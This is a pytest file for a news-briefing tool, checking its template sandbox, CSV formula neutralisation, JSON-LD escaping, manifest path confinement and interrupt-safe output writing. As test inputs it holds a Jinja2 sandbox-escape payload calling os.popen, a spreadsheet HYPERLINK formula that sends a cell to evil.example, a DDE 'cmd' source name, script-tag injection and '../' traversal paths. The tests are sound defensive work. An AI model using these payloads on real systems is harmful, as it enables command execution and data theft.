"""Issue 18, the output side: nothing lost, nothing run, nothing hangs.

- the checklist CSV never carries a spreadsheet formula, and verdicts still come back;
- the ClaimReview JSON-LD can be embedded in a page and names no local path;
- user templates run in Jinja2's sandbox, and a template behind a symlink that leads
  out of its folder is refused;
- a batch manifest cannot read or write outside its folder (unless --allow-outside);
- SIGTERM stops a batch: finished rows kept, the table printed, no worker left;
- a PDF that fails late keeps the JSON and CSV;
- a group of outputs is all or nothing, even when interrupted between the moves.
"""
from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import FIXTURES, one_error_line, subprocess_env
from reporter.errors import ExitStatus, RenderError

PAIR = [FIXTURES / "sismo_a.txt", FIXTURES / "sismo_b.txt"]


# --- item 5: user templates are code: they run in the sandbox -------------------------------


@pytest.fixture(scope="module")
def view():
    from conftest import briefing_of, fixture
    from reporter.report.view import build_view

    return build_view(briefing_of(fixture("sismo_a.txt"), fixture("sismo_b.txt")))


def test_a_user_template_cannot_run_a_command(view, tmp_path):
    from reporter.report.render import to_html

    mine = tmp_path / "mine"
    mine.mkdir()
    pwned = tmp_path / "pwned"
    # the classic escape: from any callable to its module's globals, then os.popen
    (mine / "_front.html").write_text(
        "{{ cycler.__init__.__globals__.os.popen('touch " + str(pwned) + "').read() }}"
        "{{ v.__class__.__init__.__globals__ }}", encoding="utf-8")
    with pytest.raises(RenderError, match="SecurityError|unsafe|undefined"):
        to_html(view, mine)
    assert not pwned.exists()
    # each path on its own: no globals of any function are reachable
    (mine / "_front.html").write_text("{{ v.__class__.__init__.__globals__ }}", encoding="utf-8")
    with pytest.raises(RenderError):
        to_html(view, mine)
    (mine / "_front.html").write_text("{{ ''.__class__.__mro__[1].__subclasses__() }}", encoding="utf-8")
    with pytest.raises(RenderError):
        to_html(view, mine)


def test_a_sandboxed_user_template_still_replaces_ours(view, tmp_path):
    from reporter.report.render import to_html

    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "_front.html").write_text('<section><h1>{{ v.title }}</h1><p>OUR DESK STAMP '
                                      '{{ "%d" | format(3) }} {{ v.title | upper | length > 0 }}</p></section>',
                                      encoding="utf-8")
    html = to_html(view, mine)
    assert "OUR DESK STAMP 3 True" in html
    assert 'class="checklist' in html or "checklist" in html  # the rest is ours


@pytest.mark.parametrize("how", ["file", "folder"])
def test_a_template_reached_through_a_symlink_leading_out_is_refused(view, tmp_path, how):
    from reporter.report.render import to_html

    mine, elsewhere = tmp_path / "mine", tmp_path / "elsewhere"
    mine.mkdir()
    elsewhere.mkdir()
    (elsewhere / "_front.html").write_text("SECRET OUTSIDE THE FOLDER", encoding="utf-8")
    (elsewhere / "part.html").write_text("SECRET OUTSIDE THE FOLDER", encoding="utf-8")
    if how == "file":
        (mine / "_front.html").symlink_to(elsewhere / "_front.html")
    else:  # a folder inside that is a symlink out, reached by an include
        (mine / "sub").symlink_to(elsewhere, target_is_directory=True)
        (mine / "_front.html").write_text('{% include "sub/part.html" %}', encoding="utf-8")
    with pytest.raises(RenderError, match="symlink") as e:
        to_html(view, mine)
    assert "SECRET" not in str(e.value)


def test_a_symlink_inside_the_folder_to_a_file_inside_it_is_fine(view, tmp_path):
    from reporter.report.render import to_html

    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "front-v2.html").write_text("<p>DESK VERSION 2</p>", encoding="utf-8")
    (mine / "_front.html").symlink_to(mine / "front-v2.html")
    assert "DESK VERSION 2" in to_html(view, mine)


# --- item 3: no spreadsheet formula in the checklist; verdicts still come back ---------------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1;"El alcalde dijo que el sismo dejó 32 muertos en la ciudad el martes")',
    "+El ministro Juan Pérez dijo que el sismo dejó 40 muertos el martes.",
    "@SUMA(1+1) El ministro Juan Pérez aseguró que hubo 50 heridos el lunes.",
    "-2+3 El alcalde afirmó que 70 casas cayeron el martes, según Protección Civil.",
)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def formulas():
    """A briefing whose flagged claims and source name start like formulas."""
    from conftest import fixture
    from reporter.pipeline import brief, make_source
    from reporter.settings import Settings

    a = fixture("sismo_a.txt") + "".join(f"\n{line}\n" for line in FORMULAS)
    s = Settings()
    return brief([make_source("@cmd|' /C calc'!A0.txt", a, s), make_source("b.txt", fixture("sismo_b.txt"), s)], s)


def rows_of(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_no_checklist_cell_starts_like_a_formula(formulas):
    from reporter.review.checklist import to_csv

    rows = rows_of(to_csv(formulas))
    claims = {r["claim"] for r in rows}
    assert {"'" + f for f in FORMULAS} <= claims  # every one is in the checklist, shown as text
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(DANGEROUS), (column, cell)
    assert {r["source"] for r in rows if r["id"].startswith("A")} == {"'@cmd|' /C calc'!A0.txt"}


def test_a_neutralised_claim_keeps_its_verdict_through_the_round_trip(formulas, tmp_path):
    from dataclasses import replace

    from reporter.review.checklist import attach, read_verdicts, to_csv
    from reporter.review.claims import claim_key

    rows = rows_of(to_csv(formulas))
    hostile = [r for r in rows if r["claim"].startswith("'")]
    assert len(hostile) == len(FORMULAS)
    for r in hostile:  # the reviewer fills them in, with a formula and a tab-led note of their own
        r["verdict"], r["notes"] = "engañoso", "=1+1 y\tmás"
    hostile[0]["notes"] = "\t=cmd"
    hostile[1]["notes"] = "\r=cmd"
    filled = tmp_path / "review.csv"
    with filled.open("w", encoding="utf-8-sig", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    reviewed = read_verdicts(filled)
    verdicts, unmatched = attach(reviewed, formulas)
    assert unmatched == ()
    originals = {claim_key(s.text): s.text for a in formulas.articles for s in a.sentences}
    assert sorted(originals[k] for k in verdicts) == sorted(FORMULAS)  # each landed on its own claim
    # written back: the verdicts are there, the reviewer's formulas are text too
    again = rows_of(to_csv(replace(formulas, verdicts=verdicts)))
    for row in again:
        for column, cell in row.items():
            assert not cell.startswith(DANGEROUS), (column, cell)
    assert sorted(r["verdict"] for r in again if r["verdict"]) == ["engañoso"] * len(FORMULAS)
    # and a checklist read back again keeps matching (the quote is never doubled)
    again_file = tmp_path / "again.csv"
    again_file.write_bytes(to_csv(replace(formulas, verdicts=verdicts)))
    assert attach(read_verdicts(again_file), formulas)[1] == ()
    assert to_csv(replace(formulas, verdicts=dict(attach(read_verdicts(again_file), formulas)[0]))) == \
        again_file.read_bytes()


def test_a_spreadsheet_that_drops_the_quote_still_matches_by_the_claim(formulas, tmp_path):
    from reporter.review.checklist import attach, read_verdicts, to_csv

    rows = rows_of(to_csv(formulas))
    for r in rows:
        if r["claim"].startswith("'"):
            r["claim"], r["key"], r["verdict"] = r["claim"][1:], "", "accurate"
    filled = tmp_path / "review.csv"
    with filled.open("w", encoding="utf-8-sig", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    verdicts, unmatched = attach(read_verdicts(filled), formulas)
    assert unmatched == () and len(verdicts) == len(FORMULAS)


# --- item 4: ClaimReview JSON-LD that can be embedded, naming no local path ------------------


def reviewed_briefing(label_a: str, label_b: str = "b.txt"):
    from dataclasses import replace

    from conftest import fixture
    from reporter.pipeline import brief, make_source
    from reporter.review.checklist import Verdict
    from reporter.review.claims import claim_key
    from reporter.settings import Settings

    hostile = ("El alcalde dijo que el sismo dejó 32 muertos </script><script>alert('x & y')</script> "
               "en la ciudad el martes.")
    s = Settings()
    b = brief([make_source(label_a, fixture("sismo_a.txt") + f"\n{hostile}\n", s),
               make_source(label_b, fixture("sismo_b.txt"), s)], s)
    flagged = [b.sentence(f.sentence) for f in b.flags]
    assert any("</script>" in x.text for x in flagged)
    verdicts = {claim_key(x.text): Verdict("misleading", "Notes </script> & <b>", "engañoso") for x in flagged}
    return replace(b, verdicts=verdicts), hostile


def test_claimreview_escapes_what_would_end_a_script_element():
    from reporter.review.checklist import claimreview

    b, hostile = reviewed_briefing("/home/desk/private/a.txt")
    data = claimreview(b)
    for raw in (b"<", b">", b"&"):
        assert raw not in data
    assert b"\\u003c/script\\u003e" in data
    items = json.loads(data)  # the same values, read back
    assert hostile in {i["claimReviewed"] for i in items}
    assert {i["reviewBody"] for i in items} == {"Notes </script> & <b>"}


def test_claimreview_names_no_local_path_and_keeps_a_source_url():
    from reporter.review.checklist import claimreview

    b, _ = reviewed_briefing("/home/desk/private/a.txt", "https://news.example/story?id=1&lang=es")
    data = claimreview(b)
    assert b"/home/desk" not in data and b"private" not in data
    items = json.loads(data)
    by_source = {}
    for i in items:
        for appearance in i["itemReviewed"]["appearance"]:  # every source telling the claim (a list)
            by_source.setdefault(appearance.get("url"), []).append(appearance)
    assert set(by_source) == {None, "https://news.example/story?id=1&lang=es"}
    assert all("url" not in a for a in by_source[None])


# --- item 13: a group of outputs is all or nothing ------------------------------------------

NEW = {".pdf": b"%PDF- new", ".json": b'{"new": 1}', ".csv": b"new,csv", ".claimreview.json": b"[]"}


def group(folder: Path) -> dict[Path, bytes]:
    return {folder / f"x{ext}": data for ext, data in NEW.items()}


def fail_once(monkeypatch, name: str, after: int, error: BaseException):
    """os.<name> works `after` times, then raises `error` once, then works again (for the rollback)."""
    real = getattr(os, name)
    calls = []

    def patched(*args, **kwargs):
        calls.append(args)
        if len(calls) == after + 1:
            raise error
        return real(*args, **kwargs)

    monkeypatch.setattr(os, name, patched)
    return calls


def listing(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


@pytest.mark.parametrize("hard_links", [True, False])
@pytest.mark.parametrize("after", [1, 2, 3])
def test_an_interrupt_between_the_moves_leaves_no_part_of_a_new_group(tmp_path, monkeypatch, hard_links, after):
    from reporter.run.output import write_all

    if hard_links:
        fail_once(monkeypatch, "link", after=after, error=KeyboardInterrupt())
    else:  # a file system without hard links: exclusive create, then replace
        monkeypatch.setattr(os, "link", lambda *a, **k: (_ for _ in ()).throw(OSError(1, "Operation not permitted")))
        fail_once(monkeypatch, "replace", after=after, error=KeyboardInterrupt())
    with pytest.raises(KeyboardInterrupt):
        write_all(group(tmp_path), force=False)
    assert listing(tmp_path) == {}  # no PDF without its JSON and CSV, no temporary file


@pytest.mark.parametrize("after", [1, 2, 3])
def test_with_force_an_interrupt_between_the_moves_restores_the_old_group(tmp_path, monkeypatch, after):
    from reporter.run.output import write_all

    old = {p: b"old " + p.name.encode() for p in group(tmp_path)}
    del old[tmp_path / "x.claimreview.json"]  # the old run had no ClaimReview: it must not appear
    for p, data in old.items():
        p.write_bytes(data)
    before = listing(tmp_path)
    fail_once(monkeypatch, "replace", after=after, error=KeyboardInterrupt())
    with pytest.raises(KeyboardInterrupt):
        write_all(group(tmp_path), force=True)
    assert listing(tmp_path) == before  # the old set, whole; nothing new, no temporary or backup file


def test_with_force_a_finished_group_is_all_new(tmp_path):
    from reporter.run.output import write_all

    for p in list(group(tmp_path))[:2]:
        p.write_bytes(b"old")
    write_all(group(tmp_path), force=True)
    assert listing(tmp_path) == {p.name: data for p, data in group(tmp_path).items()}


def test_the_pdf_is_moved_into_place_last(tmp_path, monkeypatch):
    from reporter.run.output import write_all

    calls = fail_once(monkeypatch, "link", after=99, error=AssertionError())
    write_all(group(tmp_path), force=False)
    assert [Path(dst).name for _, dst in calls][-1] == "x.pdf"


@pytest.mark.skipif(not hasattr(signal, "pthread_sigmask"), reason="POSIX signal masks")
@pytest.mark.parametrize("force", [False, True])
def test_a_sigterm_between_the_moves_leaves_the_group_as_it_was(tmp_path, monkeypatch, force):
    # SIGTERM arrives (the CLI turns it into KeyboardInterrupt) right after the first file is in place
    from reporter.run.output import write_all

    if force:
        (tmp_path / "x.pdf").write_bytes(b"old pdf")
    before = listing(tmp_path)
    name = "replace" if force else "link"
    real = getattr(os, name)
    sent = []

    def move(*args, **kwargs):
        result = real(*args, **kwargs)
        if not sent:
            sent.append(args)
            os.kill(os.getpid(), signal.SIGTERM)
        return result

    def terminate(signum, frame):
        raise KeyboardInterrupt

    previous = signal.signal(signal.SIGTERM, terminate)
    try:
        monkeypatch.setattr(os, name, move)
        with pytest.raises(KeyboardInterrupt):
            write_all(group(tmp_path), force=force)
    finally:
        signal.signal(signal.SIGTERM, previous)
    assert sent and listing(tmp_path) == before


# --- item 11: a late failure keeps what is good ----------------------------------------------

BROKEN = "{{ v.no_such_field }}"  # StrictUndefined: the template fails once the pipeline has run
ENDLESS = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"


def articles(folder: Path) -> list[str]:
    for p in PAIR:
        (folder / p.name).write_bytes(p.read_bytes())
    return [p.name for p in PAIR]


def templates(folder: Path, front: str) -> str:
    (folder / "mine").mkdir()
    (folder / "mine" / "_front.html").write_text(front, encoding="utf-8")
    return "mine"


@pytest.mark.parametrize("front, options, reason", [
    (BROKEN, [], "no_such_field"),
    (ENDLESS, ["--render-timeout", "1"], "took longer than 1 s"),
], ids=["broken-template", "render-timeout"])
def test_a_pdf_that_fails_late_keeps_the_json_and_csv(cli, tmp_path, front, options, reason):
    r = cli("brief", *articles(tmp_path), "-o", "out/x.pdf", "--templates", templates(tmp_path, front), *options)
    line = one_error_line(r, ExitStatus.RENDER)
    out = tmp_path / "out"
    assert sorted(p.name for p in out.iterdir()) == ["x.csv", "x.json"]  # no PDF, no temporary file
    assert "the PDF failed" in line and reason in line
    assert f"{out / 'x.json'}" in line and f"{out / 'x.csv'}" in line
    data = json.loads((out / "x.json").read_text(encoding="utf-8"))
    assert [a["source"] for a in data["articles"]] == articles(tmp_path)
    assert rows_of((out / "x.csv").read_bytes())  # the checklist, every flagged claim


def test_a_late_failure_never_overwrites_without_force(cli, tmp_path):
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "x.json").write_text("the earlier twin", encoding="utf-8")
    r = cli("brief", *articles(tmp_path), "-o", "out/x.pdf", "--templates", templates(tmp_path, BROKEN))
    one_error_line(r, ExitStatus.OUTPUT)
    assert listing(tmp_path / "out") == {"x.json": b"the earlier twin"}


def test_a_late_failure_into_a_folder_writes_a_dated_twin_and_checklist(cli, tmp_path):
    r = cli("brief", *articles(tmp_path), "-o", "out/", "--templates", templates(tmp_path, BROKEN))
    one_error_line(r, ExitStatus.RENDER)
    names = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert len(names) == 2 and [Path(n).suffix for n in names] == [".csv", ".json"]


def test_a_late_failure_with_force_leaves_no_old_pdf_beside_the_new_twin(cli, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    for ext in (".pdf", ".json", ".csv"):
        (out / f"x{ext}").write_bytes(b"old")
    r = cli("brief", *articles(tmp_path), "-o", "out/x.pdf", "--force", "--templates", templates(tmp_path, BROKEN))
    line = one_error_line(r, ExitStatus.RENDER)
    assert sorted(p.name for p in out.iterdir()) == ["x.csv", "x.json"]
    assert (out / "x.json").read_bytes() != b"old" and (out / "x.csv").read_bytes() != b"old"
    assert "earlier x.pdf" in line  # says the stale PDF is gone


# --- item 7: a batch manifest stays in its folder --------------------------------------------


def desk(tmp_path: Path, rows: list[str]) -> Path:
    """tmp_path/desk/manifest.csv with the sismo pair in desk/in/, and a secret beside desk."""
    folder = tmp_path / "desk"
    (folder / "in").mkdir(parents=True)
    for p in PAIR:
        (folder / "in" / p.name).write_bytes(p.read_bytes())
    (tmp_path / "secret.txt").write_bytes(PAIR[0].read_bytes())
    (folder / "manifest.csv").write_text("output,article1,article2\n" + "".join(r + "\n" for r in rows),
                                         encoding="utf-8")
    return folder


@pytest.mark.parametrize("row, what", [
    ("../out/x.pdf,in/sismo_a.txt,in/sismo_b.txt", "output"),
    ("{tmp}/out/x.pdf,in/sismo_a.txt,in/sismo_b.txt", "output"),
    ("../out/,in/sismo_a.txt,in/sismo_b.txt", "output"),
    ("out/x.pdf,../secret.txt,in/sismo_b.txt", "article1"),
    ("out/x.pdf,in/sismo_a.txt,{tmp}/secret.txt", "article2"),
    ("out/x.pdf,in/../../secret.txt,in/sismo_b.txt", "article1"),
    ("out/x.pdf,link/secret.txt,in/sismo_b.txt", "article1"),  # a symlink inside that leads out
    ("link/x.pdf,in/sismo_a.txt,in/sismo_b.txt", "output"),
], ids=["output-dotdot", "output-absolute", "output-folder-dotdot", "input-dotdot", "input-absolute",
        "input-dotdot-inside", "input-symlink", "output-symlink"])
def test_a_manifest_cannot_reach_outside_its_folder(cli, tmp_path, row, what):
    folder = desk(tmp_path, ["out/ok.pdf,in/sismo_a.txt,in/sismo_b.txt", row.format(tmp=tmp_path)])
    (folder / "link").symlink_to(tmp_path, target_is_directory=True)
    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
    r = cli("batch", "desk/manifest.csv", "--jobs", "1", "--no-progress")
    line = one_error_line(r, ExitStatus.INPUT)
    assert line.startswith("reporter: error: desk/manifest.csv: line 3: ") and what in line
    assert "--allow-outside" in line
    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")) == before  # nothing ran, not even row 2


def test_allow_outside_lets_a_manifest_reach_out(tmp_path):
    from reporter.run.batch import read_manifest
    from reporter.settings import Settings

    folder = desk(tmp_path, ["../out/x.pdf,../secret.txt," + str(tmp_path / "desk" / "in" / "sismo_b.txt")])
    with pytest.raises(Exception, match="allow-outside"):
        read_manifest(folder / "manifest.csv", Settings(), False)
    (row,) = read_manifest(folder / "manifest.csv", Settings(), False, allow_outside=True)
    assert Path(row.job.output).resolve() == tmp_path / "out" / "x.pdf"
    assert [Path(f).resolve() for f in row.job.files] == [tmp_path / "secret.txt", folder / "in" / "sismo_b.txt"]


def test_an_empty_output_cell_means_a_dated_briefing_beside_the_manifest(tmp_path):
    from reporter.run.batch import read_manifest
    from reporter.run.briefing import plan_output
    from conftest import CLOCK
    from reporter.run.env import Env
    from reporter.settings import Settings

    folder = desk(tmp_path, [",in/sismo_a.txt,in/sismo_b.txt"])
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (row,) = read_manifest(folder / "manifest.csv", Settings(), False)
    pdf, dated = plan_output(row.job.output, CLOCK, Env(cwd=elsewhere))
    assert dated and pdf.parent.resolve() == folder.resolve()
    assert pdf.name == f"briefing-{CLOCK:%Y%m%d-%H%M%S}.pdf"


@pytest.mark.slow
def test_a_batch_row_without_output_writes_beside_the_manifest_not_here(cli, tmp_path):
    folder = desk(tmp_path, [",in/sismo_a.txt,in/sismo_b.txt"])
    (tmp_path / "elsewhere").mkdir()
    r = cli("batch", "../desk/manifest.csv", "--jobs", "1", "--no-progress", cwd=tmp_path / "elsewhere")
    assert r.status == 0, r.err
    assert list((tmp_path / "elsewhere").iterdir()) == []
    assert sorted(p.suffix for p in folder.glob("briefing-*")) == [".csv", ".json", ".pdf"]


# --- item 10: SIGTERM stops a batch: finished rows kept, the table printed, no worker left -----


def children(pid: int) -> set[int]:
    """The process's descendants now (Linux /proc)."""
    found: set[int] = set()
    todo = [pid]
    while todo:
        p = todo.pop()
        try:
            tasks = list(Path(f"/proc/{p}/task").iterdir())
        except OSError:  # it has ended
            continue
        for task in tasks:
            try:
                kids = {int(c) for c in (task / "children").read_text().split()}
            except (OSError, ValueError):
                continue
            todo.extend(kids - found)
            found |= kids
    return found


def running(pid: int) -> bool:
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return False
    return "\nState:\tZ" not in status  # a zombie runs nothing


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/task").exists(), reason="finds the workers through /proc")
@pytest.mark.parametrize("jobs", [2, 1])  # worker processes; the rows in the batch's own process
def test_sigterm_stops_a_batch_keeps_the_finished_rows_and_leaves_no_worker(tmp_path, jobs):
    folder = tmp_path / "desk"
    (folder / "in").mkdir(parents=True)
    for name in ("sismo_a.txt", "sismo_b.txt", "storm_a.txt", "storm_b.txt"):
        (folder / "in" / name).write_bytes((FIXTURES / name).read_bytes())
    pairs = ["in/sismo_a.txt,in/sismo_b.txt", "in/storm_a.txt,in/storm_b.txt"]
    rows = [f"out/r{i}.pdf,{pairs[i % 2]}" for i in range(1, 9)]
    (folder / "manifest.csv").write_text("output,article1,article2\n" + "\n".join(rows) + "\n", encoding="utf-8")
    out = folder / "out"
    proc = subprocess.Popen([sys.executable, "-m", "reporter", "batch", "manifest.csv", "--jobs", str(jobs), "--no-progress"],
                            cwd=folder, env=subprocess_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    workers: set[int] = set()
    deadline = time.monotonic() + 300
    try:
        # the first row is done when a PDF is in place (a run moves its PDF last, after its JSON and CSV)
        while not (out.exists() and any(out.glob("r*.pdf"))):
            assert proc.poll() is None, f"the batch ended first: {proc.communicate()}"
            assert time.monotonic() < deadline, "no row finished within 300 s"
            workers |= children(proc.pid)
            time.sleep(0.05)
        workers |= children(proc.pid)
        proc.send_signal(signal.SIGTERM)
        stdout, stderr = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    assert len(workers) >= jobs if jobs > 1 else True, workers  # there were worker processes to stop
    assert proc.returncode == ExitStatus.INTERRUPTED, stderr
    # no worker left (a moment for the kernel to reap what the batch waited for)
    gone_by = time.monotonic() + 10
    while any(running(p) for p in workers) and time.monotonic() < gone_by:
        time.sleep(0.1)
    assert not [p for p in workers if running(p)]
    # the summary table: every row, the finished ones ok, the others interrupted
    table = stdout.splitlines()
    assert table[0].split() == ["line", "output", "result"]
    results = {int(line.split()[0]): line.split()[2] for line in table[1:9]}
    assert sorted(results) == list(range(2, 10))
    done = {n for n, result in results.items() if result == "ok:"}
    assert done and set(results.values()) <= {"ok:", "INTERRUPTED:"}
    assert table[9] == f"{len(done)} ok, 0 failed, {8 - len(done)} interrupted"
    assert "interrupted" in stderr and "Traceback" not in stderr
    # each finished row has its three files; an interrupted one has none; no temporary file anywhere
    for n in range(2, 10):
        files = sorted(p.name for p in out.glob(f"r{n - 1}.*"))
        assert files == (sorted(f"r{n - 1}{ext}" for ext in (".pdf", ".json", ".csv")) if n in done else []), (n, files)
    assert sorted(p.name for p in out.iterdir()) == sorted(f"r{n - 1}{ext}" for n in done
                                                            for ext in (".pdf", ".json", ".csv"))


def test_the_sentence_limit_admits_only_what_was_measured_to_finish(cli, tmp_path):
    # The default is what finished within --render-timeout on the 2-core machine (settings.Limits
    # says what was measured; timings live in the benchmark, not here). One sentence over it is
    # refused before the pipeline runs.
    from reporter.settings import Limits

    limit = Limits().max_sentences
    assert limit <= 10_000 and Limits().render_timeout == 300
    half = limit // 2 + 1
    for name, start in (("a.txt", 0), ("b.txt", half)):
        (tmp_path / name).write_text("".join(f"El informe número {i} cuenta {i} casas en la ciudad.\n\n"
                                             for i in range(start, start + half)), encoding="utf-8")
    line = one_error_line(cli("brief", "a.txt", "b.txt", "-o", "x.pdf"), ExitStatus.INPUT)
    assert f"more than the limit of {limit}" in line
    assert not list(tmp_path.glob("x.*"))


def test_the_article_limit_refuses_before_reading(cli, tmp_path):
    # Every pair of articles is compared, so the count has its own limit (settings.Limits says what
    # was measured). One article over it is refused before any file is read: the last is missing.
    from reporter.settings import Limits

    limit = Limits().max_articles
    assert 2 <= limit <= 50
    names = [f"a{i}.txt" for i in range(limit + 1)]
    for name in names[:-1]:
        (tmp_path / name).write_text("El puerto abrió el lunes con 12 grúas.\n", encoding="utf-8")
    line = one_error_line(cli("brief", *names, "-o", "x.pdf"), ExitStatus.INPUT)
    assert f"{limit + 1} articles, more than the limit of {limit}" in line and "--max-articles" in line
    assert not list(tmp_path.glob("x.*"))
    # raised by the flag, the same call goes on to read the files (and finds the missing one)
    line = one_error_line(cli("brief", *names, "-o", "x.pdf", "--max-articles", str(limit + 1)), ExitStatus.INPUT)
    assert names[-1] in line and "limit" not in line
